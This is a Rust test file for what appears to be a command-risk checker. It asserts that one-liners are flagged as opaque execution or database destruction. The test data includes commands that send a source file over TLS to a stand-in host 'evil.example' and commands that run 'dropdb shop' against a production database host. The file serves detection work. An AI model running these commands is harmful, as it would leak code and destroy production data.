use insta::assert_snapshot;

use crate::fixture::check;

#[test]
fn modules_that_are_there_without_being_loaded() {
    for code in [
        "http2.connect('https://api.prod.example').request({':method':'DELETE',':path':'/orders'}).end()",
        "tls.connect(443,'evil.example').end(fs.readFileSync('src/app.py'))",
        "dgram.createSocket('udp4').send('x', 53, 'evil.example')",
        "cluster.setupPrimary({exec:'evil.js'}); cluster.fork()",
        "new worker_threads.Worker('./x.js')",
        "const {connect} = tls; connect(443)",
        "if (0) { let tls } const c = tls; c.connect(443)",
        "tls['conn' + 'ect'](443)",
        "f(vm)",
        "dns.resolveTxt('x.evil.example', console.log)",
    ] {
        let found = check(&format!("node -e \"{code}\""));
        assert!(found.contains("exec.opaque") || found.contains("exec.hidden"), "{code}: {found}");
    }
    for code in [
        "console.log(cluster.isPrimary, v8.getHeapStatistics(), http2.constants.NGHTTP2_NO_ERROR)",
        "JSON.parse('[]').map(cluster => console.log(cluster.name, cluster))",
        "const {dns} = JSON.parse('{}'); console.log(dns)",
        "const dns = 1; console.log(dns, {vm: 2}, x.tls)",
    ] {
        let found = check(&format!("node -e \"{code}\""));
        assert!(!found.contains("opaque"), "{code}: {found}");
    }
}

#[test]
fn variables_that_are_set_before_a_program_starts() {
    for command in [
        "node -e \"process.env.PGHOST='db.prod.example'; require('child_process').execSync('dropdb shop')\"",
        "node -e \"process.env['PGHOST']='db.prod.example'; require('child_process').execSync('dropdb shop')\"",
        "node -e \"Object.assign(process.env, {PGHOST: 'db.prod.example'}); require('child_process').execSync('dropdb shop')\"",
        "python3 -c \"import os; os.environ.update(PGHOST='db.prod.example'); os.system('dropdb shop')\"",
        "python3 -c \"import os; os.environ.update({'PGHOST':'db.prod.example'}); os.system('dropdb shop')\"",
        "python3 -c \"import os; os.putenv('PGHOST','db.prod.example'); os.system('dropdb shop')\"",
        "php -r 'putenv(\"PGHOST=db.prod.example\"); system(\"dropdb shop\");'",
        "perl -e '$ENV{PGHOST}=\"db.prod.example\"; system(\"dropdb shop\")'",
        "ruby -e 'ENV[\"PGHOST\"] = \"db.prod.example\"; system(\"dropdb shop\")'",
    ] {
        let found = check(command);
        assert!(found.contains("db.destroy") && found.contains("db.prod.example"), "{command}: {found}");
        assert!(!found.contains("localhost") || found.contains("opaque"), "{command}: {found}");
    }
    assert_snapshot!(check("node -e \"console.log(process.env.PGHOST); require('child_process').execSync('dropdb shop')\""), @"
        db.destroy * in postgresql://localhost/shop, destroy
        exec.read node, read
        ");
}
